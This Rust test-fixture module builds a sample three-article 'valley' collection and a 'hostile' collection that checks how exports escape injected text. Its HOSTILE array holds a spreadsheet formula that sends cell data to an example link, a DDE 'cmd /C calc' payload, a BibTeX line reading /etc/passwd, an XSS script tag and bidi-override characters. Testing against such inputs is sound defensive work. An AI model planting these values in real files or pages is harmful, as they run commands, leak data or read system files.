//! A valley's three papers: one known, one inferred, one unknown; and text that means harm.

use corpus::{
    Draft, Fact, FigureId, MentionKind, PassageKind, Quote, QuoteKind, SourceId, Span, Speaker,
    Standing, Zone,
};

use crate::corpora::{article, citation, draft, mention, score};

/// What an article may hold that another format reads as its own marks.
pub(crate) const HOSTILE: [&str; 14] = [
    "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
    "\u{200f}=1+1",
    "<script>alert(1)</script> & <b>bold</b>",
    "}\n@misc{forged, title = {\\input{/etc/passwd}}, note = \"50 % $x_1^2$ ~ #1\"",
    "He said \"no\", twice;\r\n\tthen, \\ left",
    "# Heading\n- item\n1. one *bold* _em_ `code` ![x](https://example.org/x.png)",
    "\u{202e}desrever\u{2067} and on",
    "null \0 bell \u{7} escape \u{1b}[31m",
    "https://example.org/ and www.example.org",
    "{\"json\": [1, null]}\u{2028}next\u{2029}",
    "--- === +++ ~~~ ***",
    "-2 + 3",
    "＝cmd|' /C calc'!A0",
    "مرحبا \u{200f}بالعالم",
];

/// The article of `o0` is known in all; that of `o1` inferred, with a title; that of `o2` unknown,
/// without one.
pub(crate) fn valley() -> Draft {
    let fact = |value: Option<&str>, standing| Fact {
        value: value.map(str::to_owned),
        standing,
        evidence: String::new(),
    };
    let mut mill = article(
        "mill",
        0,
        &["Floods in the valley", "“The mill stands still,” said Ansel Ruge. “Élan!”"],
    );
    mill.record.title = fact(Some("Floods in the valley"), Standing::Stated);
    mill.record.published = fact(Some("2025-10-17"), Standing::Confirmed);
    mill.record.address = Some("https://post.example/floods?a=1&b={2}".into());
    mill.passages[0].kind = PassageKind::Heading;
    mill.passages[1].scores = vec![score(0, 120), score(1, 40)];
    mill.passages[1].mentions =
        vec![mention(&mill.passages[1], 0, MentionKind::Person, Zone::Body)];
    mill.passages[1].citations = vec![citation(&mill.passages[1], 1, Zone::Body)];
    let begin = mill.passages[1].span.start as usize;
    let words = mill.text[begin..].find("The mill").unwrap() + begin;
    mill.passages[1].quotes = vec![Quote {
        span: Span::new(words, words + "The mill stands still,".len()),
        kind: QuoteKind::Speech,
        speaker: Some(Speaker::Figure(FigureId(0))),
        via: vec![SourceId(1)],
        rule: "made by hand".into(),
    }];

    let mut weir = article("weir", 1, &["The weir\nis repaired & open", "Subscribe to us"]);
    weir.record.outlet_standing = Standing::Inferred;
    weir.record.title = fact(Some("A weir, 50 % done"), Standing::Stated);
    weir.record.published = fact(Some("2025-10-15/2025-10-16"), Standing::Inferred);
    weir.passages[0].scores = vec![score(0, 110), score(1, 150)];
    weir.passages[1].kind = PassageKind::Boilerplate;

    let mut hay = article("hay", 2, &["Hay was cut in the meadows below the mill"]);
    hay.record.outlet_standing = Standing::Unknown;
    hay.record.published = fact(Some("2025-10-18/.."), Standing::Unknown);
    let mut draft = draft(3, 2, 2, vec![mill, weir, hay]);
    draft.collection.title = "The *valley*".into();
    draft.collection.hash = "c0ffee00beef".into();
    draft.outlets[0].name = "The Valley Post".into();
    draft.outlets[1].name = "Weir & Mill".into();
    draft.outlets[2].name = "Unattributed (leaflet)".into();
    draft.figures[0].name = "Ansel Ruge".into();
    draft.topics[0].label = "Floods".into();
    draft
}

/// A collection in which every name and every text means harm: an article a text.
pub(crate) fn hostile() -> Draft {
    let articles = (0..).zip(HOSTILE).map(|(number, text)| {
        let mut article = article(&format!("h{number}"), 0, &[text]);
        article.passages[0].scores = vec![score(0, 120)];
        article.passages[0].mentions =
            vec![mention(&article.passages[0], 0, MentionKind::Person, Zone::Body)];
        // Half have a title.
        if number % 2 == 0 {
            let value = Some(text.to_owned());
            article.record.title = Fact { value, standing: Standing::Stated, ..Fact::default() };
        }
        article.record.address = Some(format!("https://example.org/{text}"));
        article.record.published =
            Fact { value: Some(text.into()), standing: Standing::Inferred, ..Fact::default() };
        article
    });
    let mut draft = draft(1, 1, 2, articles.collect());
    draft.collection.title = HOSTILE.join(" ");
    draft.outlets[0].name = HOSTILE[0].into();
    draft.topics[0].label = HOSTILE[3].into();
    draft.figures[0].name = HOSTILE[2].into();
    // A mention covers a whole character.
    for article in &mut draft.articles {
        let first = article.text.chars().next().unwrap().len_utf8();
        for mention in &mut article.passages[0].mentions {
            mention.span = Span::new(0, first);
        }
    }
    draft
}
